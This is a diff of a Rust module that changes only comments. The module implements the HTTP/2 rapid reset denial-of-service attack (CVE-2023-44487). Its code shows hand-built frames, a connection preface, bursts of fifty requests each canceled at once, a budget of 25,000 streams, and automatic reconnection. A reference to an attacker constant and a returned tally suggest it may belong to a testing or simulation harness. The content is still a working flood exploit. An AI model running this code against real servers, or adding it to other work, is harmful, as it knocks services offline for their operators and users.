@@ -1,7 +1,7 @@
-//! HTTP/2 rapid reset, CVE-2023-44487: streams that are canceled as soon as they are asked for, so
-//! that no limit on streams counts them.
+//! HTTP/2 rapid reset, CVE-2023-44487: streams that are canceled immediately after the request, so that no
+//! limit on streams counts them.
 //!
-//! Frames by hand: a library for HTTP/2 keeps the rules that this breaks.
+//! The frames are written by hand, because a library for HTTP/2 obeys the rules that this attack breaks.
 
 use std::net::SocketAddr;
 use std::time::Duration;
@@ -10,13 +10,13 @@ use super::exchange::{ATTACKER, Connection};
 use super::seen::Seen;
 use crate::clock::now;
 
-/// What a client of HTTP/2 sends first.
+/// The first bytes that an HTTP/2 client sends.
 pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 
-/// Requests that are canceled together, in one write.
+/// Number of requests that are canceled together, in one write.
 const BURST: u32 = 50;
 
-/// Streams of one attacker, whatever connections they are on.
+/// Number of streams of one attacker, over all its connections.
 const STREAMS: u32 = 25_000;
 
 const DATA: u8 = 0;
@@ -27,7 +27,7 @@ const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 const CANCEL: u32 = 8;
 
-/// Cancels requests until the end; a connection that is closed is followed by another.
+/// Cancels requests until the end. If a connection is closed, another follows.
 pub(super) fn reset(path: &str, body: &str, to: SocketAddr, is_over: &dyn Fn() -> bool) -> Seen {
     let mut seen = Seen::default();
     let mut left = STREAMS;
@@ -59,7 +59,7 @@ pub(super) fn reset(path: &str, body: &str, to: SocketAddr, is_over: &dyn Fn() -
     seen
 }
 
-/// A whole request, and that it is not wanted.
+/// A complete request, and its cancellation.
 fn canceled(stream: u32, path: &str, body: &str) -> Vec<u8> {
     let mut out = frame(HEADERS, END_HEADERS, stream, &head(path, body.len()));
     out.extend(frame(DATA, END_STREAM, stream, body.as_bytes()));
@@ -82,8 +82,9 @@ fn head(path: &str, length: usize) -> Vec<u8> {
         let size = u8::try_from(text.len()).expect("texts here are short");
         [index, &[size], text.as_bytes()].concat()
     };
-    // 3 is `:method: POST`, 6 `:scheme: http`; 4 has the name `:path`, 1 `:authority`; 31 and 28, of
-    // which 15 stand in the first byte, are `content-type` and `content-length`.
+    // Header indices: 3 is `:method: POST` and 6 is `:scheme: http`. 4 has the name `:path` and 1
+    // `:authority`. 31 and 28 are `content-type` and `content-length`, and 15 of each fit into the first
+    // byte.
     [
         vec![0x83, 0x86],
         text(&[0x04], path),
